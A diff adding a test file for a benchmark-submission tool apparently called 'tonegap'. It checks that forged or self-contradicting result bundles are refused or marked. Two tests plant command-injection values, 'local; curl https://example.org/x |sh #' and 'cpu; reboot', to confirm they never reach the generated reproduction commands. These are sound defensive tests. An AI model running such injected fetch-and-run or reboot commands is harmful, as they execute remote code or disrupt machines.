@@ -1,0 +1,253 @@
+"""Bundles whose own words would give them a rank: each under keys, digests and a crate that fit."""
+
+import json
+import re
+import shlex
+
+import msgspec
+import pytest
+from records import ROOT, plain_record, scored_cell
+from tests.results.bundle.foreign_bundles import contents, fitted, write_zip
+from tests.results.submissions.test_bundles import rows
+
+from tonegap.formats.matrix import Matrix
+from tonegap.formats.record import EntryId, Isolation
+from tonegap.report.pages.entry_suite import Setting, reproduction
+from tonegap.results.bundle.pack import pack_suite
+from tonegap.results.model import Row, SeedResult
+from tonegap.store.store import Store
+
+
+@pytest.fixture
+def forge(tmp_path):
+    """A bundle of one record for each seed of an entry; `numbers` are what its predictions are drawn from."""
+
+    def make(truth, numbers, **changes):
+        there = Store(tmp_path / "forger")
+        entry = changes.pop("entry", EntryId("none", "theirs", "cnn4"))
+        cells = [
+            scored_cell(
+                there,
+                plain_record(entry=entry, seed=seed, **changes),
+                truth,
+                f"{50 + seed:064x}",
+                number,
+            )
+            for seed, number in numbers.items()
+        ]
+        there.write_matrix(Matrix("forged", "Forged", tuple(cells)))
+        path = tmp_path / "forged.tonegap.zip"
+        pack_suite(ROOT, there.folder, "forged", path)
+        return path
+
+    return make
+
+
+def control_of_this_suite():
+    names = [
+        p.parent
+        for p in ROOT.glob("baselines/*/baseline.toml")
+        if "control = true" in p.read_text()
+    ]
+    return sorted(names)[0].name
+
+
+def test_a_control_that_says_it_is_none_is_refused(tonegap, forge, truth):
+    name = control_of_this_suite()
+    code, text = tonegap(
+        "submit",
+        "add",
+        forge(truth, {0: 9}, entry=EntryId("none", name, ""), baseline_parameters={}),
+    )
+    assert code == 1
+    assert f"says that it is no control, and baselines/{name} is one here" in text
+
+
+def test_a_plug_in_of_this_suite_that_says_it_is_a_control_is_refused(tonegap, forge, truth):
+    code, text = tonegap(
+        "submit", "add", forge(truth, {0: 9}, entry=EntryId("none", "erm", "cnn4"), control=True)
+    )
+    assert code == 1
+    assert (
+        "says that it is a control, and neither methods/none nor baselines/erm is one here" in text
+    )
+
+
+def test_tone_at_test_of_a_plug_in_of_this_suite_is_not_the_bundle_s_to_say(tonegap, forge, truth):
+    sent = forge(truth, {0: 9}, entry=EntryId("none", "erm", "cnn4"), tone_at_test=True)
+    assert (
+        "says otherwise than baselines/erm here whether it is told the tone"
+        in tonegap("submit", "add", sent)[1]
+    )
+
+
+@pytest.mark.parametrize(
+    ("parameters", "said"),
+    [
+        ({"backbone": "cnn4", "turbo": 1}, "baselines/erm has no parameter 'turbo'"),
+        ({"backbone": "cnn4"}, "and 27 more, which baselines/erm has here"),
+        (
+            {"backbone": "cnn4", "epochs": "many"},
+            "baselines/erm epochs: found 'many', wanted a value like",
+        ),
+    ],
+)
+def test_parameters_that_a_plug_in_of_this_suite_cannot_have_are_refused(
+    tonegap, forge, truth, parameters, said
+):
+    entry = EntryId("none", "erm", "cnn4")
+    code, text = tonegap(
+        "submit", "add", forge(truth, {0: 9}, entry=entry, baseline_parameters=parameters)
+    )
+    assert code == 1
+    assert re.search(said.replace("27", r"\d+"), text), text
+
+
+def test_one_run_under_two_seeds_is_refused(tonegap, forge, truth):
+    code, text = tonegap("submit", "add", forge(truth, {0: 9, 7: 9}))
+    assert code == 1
+    assert (
+        "none + theirs (cnn4), d/t: seeds 0 and 7 have the same predictions: one training run"
+        in text
+    )
+
+
+def test_two_runs_under_two_seeds_are_not_one(tonegap, forge, truth):
+    assert (
+        "same predictions"
+        not in tonegap("submit", "add", forge(truth, {0: 9, 7: 10}), "--check")[1]
+    )
+
+
+def test_an_undeclared_seed_and_a_missing_one_are_named(tonegap, forge, truth):
+    text = tonegap("submit", "add", forge(truth, {7: 9}), "--check")[1]
+    assert "none + theirs (cnn4), d/t: seed 7 is declared by no suite here" in text
+    assert "none + theirs (cnn4), d/t: seed 0, which the entries here have, is not in it" in text
+    assert "baselines/theirs is not here, so what it does is its own word" in text
+
+
+def test_the_same_predictions_for_two_seeds_of_a_card_are_refused(tonegap, send):
+    folder = send()
+    (folder / "seed-1.csv").write_text((folder / "seed-0.csv").read_text())
+    with (folder / "card.toml").open("a") as card:
+        card.write('\n[[predictions]]\nseed = 1\nfile = "seed-1.csv"\n')
+    code, text = tonegap("submit", "add", folder)
+    assert code
+    assert (
+        "seeds 0 and 1 have the same predictions: one training run; leave one of them out" in text
+    )
+
+
+def test_a_bundle_that_says_in_a_container_is_marked_as_saying_so(tonegap, send_bundle, truth):
+    tonegap("submit", "add", send_bundle(truth, theirs=7))  # the records say contained
+    (marks,) = [row["marks"] for label, row in rows(tonegap).items() if "theirs" in label]
+    assert "says: in a container" in marks
+    assert "uncontained" not in marks
+    assert not any(
+        "says: in a container" in r["marks"]
+        for label, r in rows(tonegap).items()
+        if "mixup" in label
+    )
+
+
+def test_a_bundle_that_says_no_container_is_marked_uncontained(tonegap, forge, truth):
+    where = plain_record().circumstances
+    where = msgspec.structs.replace(where, isolation=Isolation("local", False, "off", "", {}))
+    assert not tonegap("submit", "add", forge(truth, {0: 9}, circumstances=where))[0]
+    (marks,) = [row["marks"] for label, row in rows(tonegap).items() if "theirs" in label]
+    assert "uncontained" in marks
+
+
+EVIL = "local; curl https://example.org/x |sh #"
+
+
+def test_a_command_in_an_engine_s_name_reaches_no_page_as_a_command(
+    tonegap, forge, truth, tmp_path
+):
+    where = plain_record().circumstances
+    where = msgspec.structs.replace(where, isolation=Isolation(EVIL, True, "off", "", {}))
+    code, text = tonegap("submit", "add", forge(truth, {0: 9}, circumstances=where))
+    assert not code, text
+    assert not tonegap("report", "--out", tmp_path / "report")[0]
+    (page,) = (tmp_path / "report").glob("entries/*theirs*.html")
+    commands = re.findall(r"tonegap run[^<\n]*", page.read_text("utf-8"))
+    assert commands
+    assert not [line for line in commands if "curl" in line or ";" in line]
+
+
+def test_what_a_mark_says_of_its_device_is_no_part_of_a_command(row_of_a_record):
+    made = reproduction(row_of_a_record, "a b.toml", Setting(1, "cpu; reboot"), {})
+    assert shlex.split(made.command)[:3] == ["tonegap", "run", "a b.toml"]
+    assert "reboot" not in made.command
+
+
+@pytest.fixture
+def row_of_a_record():
+    record = plain_record()
+    seeds = (SeedResult(0, "k", record, None),)
+    return Row(record.entry, False, seeds, (), {}, None, None)
+
+
+def changed(bundle, tmp_path, start, change):
+    """The bundle with one JSON file changed, all digests of files fitting."""
+    files = contents(bundle)
+    (name,) = [n for n in files if n.startswith(start) and n.endswith(".json")]
+    document = json.loads(files[name])
+    change(document)
+    return write_zip(
+        tmp_path / "changed.zip", fitted(files | {name: json.dumps(document).encode()})
+    )
+
+
+@pytest.mark.parametrize(
+    ("start", "field", "value", "said"),
+    [
+        ("stages/", "ingredients.seed", "7", "does not follow from what it was made from"),
+        ("stages/", "isolation.contained", False, "differ about how they were isolated"),
+        (
+            "records/",
+            "baseline_parameters",
+            {"backbone": "vgg16"},
+            "its backbone is not that of its parameters",
+        ),
+        ("records/", "method_parameters", {"x": 1}, None),
+        ("records/", "partitions.test.n", 61, "counts the test images otherwise than the truth"),
+        ("records/", "partitions.test.n_by_tone", {"I-II": 60}, "counts the test images otherwise"),
+        (
+            "records/",
+            "synthetic",
+            {"n": 9, "n_by_tone": {}, "sha256": "0" * 64},
+            "without the stage that made",
+        ),
+        ("records/", "scores.best", None, "scores under best, which is no rule"),
+        ("records/", "control", True, "differ about whether it is a control"),
+        ("records/", "leaks.n_groups", 5, "or near-duplicates than this store's own"),
+    ],
+)
+def test_a_field_that_the_rest_of_the_bundle_contradicts_is_named(
+    tonegap, forge, truth, tmp_path, start, field, value, said
+):
+    def change(document):
+        *path, last = field.split(".")
+        for part_of in path:
+            document = document[part_of]
+        document[last] = document["last"] if value is None else value
+
+    sent = changed(forge(truth, {0: 9}), tmp_path, start, change)
+    code, text = tonegap("submit", "add", sent)
+    if said is None:  # the method here has no stage and no parameter
+        said = "methods/none has no parameter 'x'"
+    assert code == 1, text
+    assert said in text
+
+
+def test_a_stage_without_a_mark_is_named(tonegap, forge, truth, tmp_path):
+    files = contents(forge(truth, {0: 9}))
+    (name,) = [n for n in files if n.endswith("stage.json")]
+    del files[name]
+    graph = json.loads(files["ro-crate-metadata.json"])
+    graph["@graph"] = [node for node in graph["@graph"] if node["@id"] != name]
+    files["ro-crate-metadata.json"] = json.dumps(graph).encode()
+    code, text = tonegap("submit", "add", write_zip(tmp_path / "x.zip", fitted(files)))
+    assert code == 1
+    assert "stage.json: damaged, or not what it should be" in text
